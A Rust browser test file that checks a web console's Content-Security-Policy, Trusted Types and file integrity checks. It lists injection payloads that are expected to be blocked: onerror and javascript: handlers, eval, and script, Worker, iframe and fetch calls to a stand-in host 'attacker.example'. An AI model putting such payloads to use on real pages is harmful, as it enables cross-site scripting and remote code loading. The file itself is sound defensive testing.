//! The page's Content-Security-Policy: everything that the console does keeps to it, and what does not is refused.

use anyhow::{Context as _, Result, ensure};
use browser_tests::{BUTTON, Console, DIALOG, HEADING, LINK, Setup, TAB, journey, until};
use serde_json::{Value, json};
use thirtyfour::Key;

use super::payments::review;

/// Every part of a service's page.
const TABS: [&str; 8] = [
    "service.tab_overview",
    "service.tab_containers",
    "service.tab_logs",
    "service.tab_monitor",
    "domains.tab",
    "config_files.tab",
    "service.tab_deployment",
    "service.tab_access",
];

async fn close(console: &Console, dialog: &str) -> Result<()> {
    console.press(Key::Escape + "").await?;
    console.gone(DIALOG, dialog).await
}

/// Every part of one service, with what each does that draws, styles or saves.
async fn service(console: &Console) -> Result<()> {
    let id = console.platform().service_in("North America", "ServiceRunning").await?;
    console.visit(&format!("/service/{id}")).await?;
    for tab in TABS {
        console.click(LINK, console.t(tab)).await?;
        console.settled().await?;
    }
    console.click(LINK, console.t("service.tab_logs")).await?;
    until("lines of the log", async || {
        let lines = console
            .run("return document.querySelectorAll('.log-line').length")
            .await?;
        Ok((lines.as_u64() > Some(3)).then_some(()))
    })
    .await?;
    console.click(LINK, console.t("service.tab_monitor")).await?;
    console.click(BUTTON, console.t("monitor.table")).await?;
    console.click(BUTTON, console.t("monitor.download_csv")).await?;
    console.downloaded(&format!("{id}-monitor.csv")).await?;
    console.click(LINK, console.t("config_files.tab")).await?;
    console.click(BUTTON, console.t("config_files.edit")).await?;
    console.find(BUTTON, console.t("config_files.review")).await?;
    console.click(LINK, console.t("service.tab_containers")).await?;
    console.click(BUTTON, console.t("operation.pause")).await?;
    console.find(DIALOG, console.t("operation.pause_title")).await?;
    close(console, console.t("operation.pause_title")).await
}

/// From the market to the review of a payment, with the code for a telephone's wallet.
async fn order(console: &Console) -> Result<()> {
    console.visit("/market").await?;
    console.fill(console.t("market.search"), "one network").await?;
    console.click(LINK, "Container Service").await?;
    console.page("Container Service").await?;
    console.choose(console.t("service.region"), "Tokyo").await?;
    console.fill(console.t("market.duration"), "24").await?;
    console.click(BUTTON, console.t("market.order_now")).await?;
    console.page(console.t("cart.title")).await?;
    console.click(BUTTON, &console.counted("renew.action", 1)).await?;
    review(console).await?;
    close(console, console.t("payments.review_title")).await?;
    console.css("svg.qr").await?;
    Ok(())
}

#[tokio::test]
async fn every_page_keeps_to_the_policy() -> Result<()> {
    journey(Setup::default(), async |console| {
        // A service whose containers have no file.
        console.expect_error("status of 404");
        console.goto("/").await?;
        for way in ["sign_in.file", "sign_in.token", "sign_in.new", "sign_in.seed"] {
            console.click(TAB, console.t(way)).await?;
        }
        console.sign_in_demo().await?;
        for list in ["running", "usable", "past", "aborted"] {
            console.visit(&format!("/services/{list}")).await?;
            console.page(console.t(&format!("list.{list}"))).await?;
            console.settled().await?;
        }
        for (route, heading) in [
            ("/status", "status_all.title"),
            ("/notices", "notices.title"),
            ("/email", "email.title"),
            ("/renew", "renew.title"),
            ("/orders", "orders.title"),
            ("/payments", "payments.title"),
            ("/wallet", "wallet.title"),
            ("/wallet/send", "send.title"),
            ("/market", "market.title"),
            ("/cart", "cart.title"),
        ] {
            console.visit(route).await?;
            console.page(console.t(heading)).await?;
            console.settled().await?;
        }
        console.visit("/nowhere").await?;
        service(console).await?;
        order(console).await?;
        console.press(Key::Control + "k").await?;
        console.find(DIALOG, console.t("palette.title")).await?;
        close(console, console.t("palette.title")).await?;
        console.keeps_policy().await
    })
    .await
}

/// Waits for a report, after so many others, that a script went against that directive.
async fn reported(console: &Console, before: usize, script: &str, directive: &str) -> Result<()> {
    until(&format!("a report of {script}"), async || {
        let violations = console.violations().await?;
        let found = violations[before..]
            .iter()
            .any(|violation| violation.starts_with(directive));
        Ok(found.then_some(()))
    })
    .await
}

#[tokio::test]
async fn what_is_injected_is_refused() -> Result<()> {
    journey(Setup::default(), async |console| {
        console.goto("/").await?;
        console.find(HEADING, console.t("sign_in.title")).await?;
        console.keeps_policy().await?;
        // Everything below is said in the browser's console, in many words.
        console.expect_error("");
        let types = "require-trusted-types-for";
        for (script, directive) in [
            (
                "document.body.innerHTML = '<img src=x onerror=\"window.ran = true\">'",
                types,
            ),
            (
                "document.body.innerHTML = '<a href=\"javascript:window.ran = true\">'",
                types,
            ),
            ("document.body.insertAdjacentHTML('beforeend', '<b id=\"x\">')", types),
            ("document.body.setAttribute('onclick', 'window.ran = true')", types),
            ("eval('window.ran = true')", types),
            ("new Function('window.ran = true')()", types),
            ("setTimeout('window.ran = true', 0)", types),
            ("document.createElement('script').text = 'window.ran = true'", types),
            (
                "document.createElement('script').src = 'https://attacker.example/x.js'",
                types,
            ),
            ("new Worker('https://attacker.example/x.js')", types),
            (
                "trustedTypes.createPolicy('another', { createHTML: (text) => text })",
                "trusted-types",
            ),
            (
                "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
                "trusted-types",
            ),
        ] {
            let before = console.violations().await?.len();
            let thrown = console.thrown(script).await?;
            ensure!(!thrown.is_empty(), "nothing refused {script}");
            reported(console, before, script, directive).await?;
        }
        // What no type guards, the policy refuses by itself.
        let element = |name: &str, change: &str| {
            format!("const made = document.createElement('{name}'); {change}; document.body.append(made)")
        };
        for (script, directive) in [
            (
                element("iframe", "made.src = 'https://attacker.example/'"),
                "frame-src https://attacker.example",
            ),
            (
                element("style", "made.append('* { color: red }')"),
                "style-src-elem inline",
            ),
            (
                "document.body.setAttribute('style', 'color: red')".to_owned(),
                "style-src-attr inline",
            ),
            (
                "new Image().src = 'https://attacker.example/x.png'".to_owned(),
                "img-src https://attacker.example/x.png",
            ),
            (
                "fetch('http://attacker.example/').catch(() => {})".to_owned(),
                "connect-src http://attacker.example/",
            ),
            (
                "location.href = 'javascript:window.ran = true'".to_owned(),
                "script-src-elem inline",
            ),
        ] {
            let before = console.violations().await?.len();
            console.thrown(&script).await?;
            reported(console, before, &script, directive).await?;
        }
        // A script's text that no type vouches for is no violation, it is just never run.
        console
            .thrown(&element("script", "made.append('window.ran = true')"))
            .await?;
        until("the browser to say that it runs no such script", async || {
            let messages = console.messages().await?;
            let says = messages.iter().any(|message| message.contains("will not be executed"));
            Ok(says.then_some(()))
        })
        .await?;
        assert_eq!(console.run("return window.ran ?? null").await?, Value::Null);
        // What Leptos writes passes, so it is the markup that was refused, not every use of it.
        let written = "const template = document.createElement('template');
            template.innerHTML = '<span class=\"spinner\"></span>';
            return template.content.firstChild.className";
        assert_eq!(console.run(written).await?, json!("spinner"));
        Ok(())
    })
    .await
}

/// What the page of the boot screen says, once it is an alert.
async fn alert(console: &Console) -> Result<String> {
    until("the boot screen to say what is wrong", async || {
        let said = console
            .run("return document.querySelector('#boot-message[role=alert]')?.textContent ?? null")
            .await?;
        Ok(said.as_str().map(str::to_owned))
    })
    .await
}

#[tokio::test]
async fn a_file_that_is_not_what_the_page_names_does_not_run() -> Result<()> {
    journey(Setup::default(), async |console| {
        console.expect_error("integrity");
        console.expect_error("boot");
        let address = console.platform().address().to_owned();
        let page = console.platform().text("/").await?;
        let boot = page
            .split("src=\"")
            .find_map(|part| part.split('"').next().filter(|name| name.starts_with("boot")))
            .context("the page's script")?
            .to_owned();
        let script = "export default () => {}; window.ran = true;";
        // Eight bytes that are a program, which does nothing.
        let program = json!({ "path": "/console*.wasm", "contentType": "application/wasm", "base64": true, "body": "AGFzbQEAAAA=" });
        for fault in [
            json!({ "path": "/console*.js", "contentType": "text/javascript", "body": script }),
            json!({ "path": "/console*.wasm", "contentType": "application/wasm", "body": "changed" }),
            program,
        ] {
            console.platform().fault(fault).await?;
            console.forget_files().await?;
            console.driver().goto(&address).await?;
            let said = alert(console).await?;
            ensure!(said.contains("not what the page says"), "{said}");
            console.platform().no_faults().await?;
        }
        console
            .platform()
            .fault(json!({ "path": format!("/{boot}"), "contentType": "text/javascript", "body": script }))
            .await?;
        console.forget_files().await?;
        console.driver().goto(&address).await?;
        assert_eq!(console.run("return window.ran ?? null").await?, Value::Null);
        console.platform().no_faults().await?;
        console.goto("/").await?;
        console.keeps_policy().await
    })
    .await
}
